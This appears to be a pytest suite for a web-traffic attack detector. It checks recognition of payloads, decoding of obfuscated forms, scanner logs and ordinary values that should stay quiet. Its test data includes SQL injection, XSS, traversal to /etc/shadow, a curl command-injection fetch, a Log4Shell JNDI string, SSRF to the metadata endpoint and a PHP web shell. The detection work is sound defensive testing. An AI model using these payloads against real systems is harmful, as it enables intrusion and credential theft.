"""Detector traffic.attack: requests, payloads, logs, and what only several requests show."""

from __future__ import annotations

import time
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.detect.traffic.traffic_evidence import BROWSER, VARIED, evidence_of, log_line

from mingjian.detect.traffic.attack import Attack
from mingjian.detect.traffic.decode import decode
from mingjian.detect.traffic.payload import hits
from mingjian.detect.traffic.request import read_request
from mingjian.domain.finding import Finding, Lines, TextSpan

DETECTOR = Attack({})


def _only(*lines: str) -> Finding:
    return next(iter(DETECTOR.examine(evidence_of(*lines))))


PAYLOADS = [
    ("sql", "7' union select name, pass from users-- -"),
    ("sql", "x') or ('a'='a"),
    ("sql", "3 and if(1=1,sleep(4),0)"),
    ("script", '"><svg onload=prompt(7)>'),
    ("script", "<ScRiPt>alert(1)</sCrIpT>"),
    ("traversal", "../../../../etc/shadow"),
    ("traversal", "..\\..\\windows\\win.ini"),
    ("command", "photo.jpg;cat /etc/hosts"),
    ("command", "$(curl 192.0.2.7/a)"),
    ("template", "${jndi:ldap://192.0.2.5/x}"),
    ("template", "{{7*'7'}}"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/"),
    ("code", "<?php system($_GET['c']); ?>"),
    ("code", '{"user":{"$ne":null}}'),
    ("header", "home\r\nSet-Cookie: a=b"),
]


@pytest.mark.parametrize(("name", "payload"), PAYLOADS)
def test_each_class_is_recognised_bare_and_in_a_line(name: str, payload: str) -> None:
    assert name in {hit.of.id for hit in hits(decode(payload))}
    bare = _only(payload)
    assert bare.signal == "traffic.request"
    assert not bare.quiet, bare.because.en
    assert bare.context == {"form": "payload"}
    line = _only(log_line(f"/find?q={quote(payload, safe='')}"))
    assert not line.quiet, line.because.en
    assert line.context == {"form": "line"}


def test_the_place_of_a_short_target_is_its_own() -> None:
    line = log_line("/", agent="sqlmap/1.7", status=404)
    (place,) = _only(line).where
    assert isinstance(place, TextSpan)
    assert line[place.start - 4 : place.end + 1] == "GET / "


def test_a_payload_in_the_browsers_name_is_pointed_at_there() -> None:
    line = log_line("/", agent="${jndi:ldap://192.0.2.5/x}")
    (place,) = _only(line).where
    assert isinstance(place, TextSpan)
    assert line[place.start : place.end] == "${jndi:ldap://192.0.2.5/x}"


@pytest.mark.parametrize(
    "value",
    [
        "Mary O'Neil",
        "rock & roll",
        "please select a seat from the list",
        "a table for two, or maybe three",
        "union square",
        "3 < 5",
        "tom@example.org",
        "https://example.org/page?x=1",
        "手机充电器",
        "2024-05-06 10:00:00",
        "C/ Mayor, 12 3-B",
        "R&D (2024)",
        "40184",
    ],
)
def test_ordinary_values_are_quiet(value: str) -> None:
    assert _only(value).quiet
    assert _only(log_line(f"/find?q={quote(value, safe='')}")).quiet


def test_double_encoding_and_overlong_forms_are_undone() -> None:
    twice = quote(quote("../../etc/passwd", safe=""), safe="")
    assert decode(twice).text == "../../etc/passwd"
    assert decode(twice).rounds == 2
    assert decode("..%c0%af..%c0%afetc/passwd").overlong
    assert decode("%u003cscript%u003e").text == "<script>"
    assert decode("un/**/ion sel/*x*/ect").text == "un ion sel ect"


def test_the_span_is_the_target() -> None:
    line = log_line("/a.php?id=1%27%20or%20%271%27=%271")
    finding = _only(line)
    (span,) = finding.where
    assert isinstance(span, TextSpan)
    assert line[span.start : span.end].startswith("/a.php?id=")


def test_a_named_tool_and_a_browser_that_does_not_exist() -> None:
    assert not _only(log_line("/", agent="sqlmap/1.8 (https://sqlmap.example)")).quiet
    forged = (
        "Mozilla/5.0 (X11) AppleWebKit/535.1 (KHTML, like Gecko) Chrome/77.0.3865.0 Safari/535.1"
    )
    assert not _only(log_line("/", agent=forged)).quiet
    assert _only(log_line("/", agent="Mozilla/5.0 (compatible; Googlebot/2.1; +http://g)")).quiet


def _calm(count: int) -> list[str]:
    return [log_line(f"/page/{i}", second=i, client=f"198.51.100.{i % 50}") for i in range(count)]


def test_a_calm_log_is_quiet_and_a_scan_in_it_is_found_with_its_lines() -> None:
    calm = _calm(200)
    quiet = _only(*calm)
    assert quiet.signal == "traffic.log"
    assert quiet.quiet
    scan = [
        log_line(f"/{name}", second=300 + i, client="203.0.113.7", status=404, agent="Nikto/2.5")
        for i, name in enumerate([".git/config", ".env", "backup.zip", "phpmyadmin/", "cgi-bin/x"])
    ]
    found = _only(*calm[:100], *scan, *calm[100:])
    assert not found.quiet
    assert found.score is not None
    assert quiet.score is not None
    assert found.score > quiet.score
    assert {place.first for place in found.where if isinstance(place, Lines)} == set(
        range(101, 106)
    )
    assert "203.0.113.7" in str(found.exhibits[0])


def test_behaviours_are_told_apart() -> None:
    one = [
        log_line(f"/p?{name}={quote(text, safe='')}", second=9 * i, client="203.0.113.8")
        for i, (name, text) in enumerate(zip("abcdabcd", VARIED, strict=True))
    ]
    kinds = {f.details.get("kind") for f in DETECTOR.examine(evidence_of(*_calm(20), *one))}
    assert {"adaptive", "varied"} <= kinds
    many = [
        log_line(f"/q?id={i}%27%20union%20select%201,2,3--%20-", client=f"203.0.113.{i}")
        for i in range(1, 6)
    ]
    kinds = {f.details.get("kind") for f in DETECTOR.examine(evidence_of(*_calm(20), *many))}
    assert "distributed" in kinds
    assert "varied" not in kinds


def test_a_torn_or_quoted_line_is_still_read() -> None:
    request = read_request(
        '"192.0.2.1 - - [22/Dec/2016:22:36:10 +0300] "POST /x HTTP/1.1" 303 378 "-" "a b'
    )
    assert (request.method, request.target, request.status, request.agent) == (
        "POST",
        "/x",
        303,
        "a b",
    )
    raw = _only("POST /login HTTP/1.1\r\nHost: a\r\n\r\nuser=x&pass=' or '1'='1")
    assert not raw.quiet


@given(st.text(max_size=300))
def test_any_text_is_measured_the_same_twice(text: str) -> None:
    assert _only(text) == _only(text)


@pytest.mark.parametrize(
    "piece",
    ["'", "<a ", "../", "%25", "(select ", "{{", "$(", "/*", "a" * 7 + "=", "\\u0041", "; "],
)
def test_hostile_length_takes_no_hostile_time(piece: str) -> None:
    begun = time.process_time()
    _only(piece * (200_000 // len(piece)))
    _only(log_line("/?" + piece * (15_000 // len(piece)), agent=BROWSER + piece * 2_000))
    # Not a benchmark: a pattern that backtracks would take minutes here.
    assert time.process_time() - begun < 20
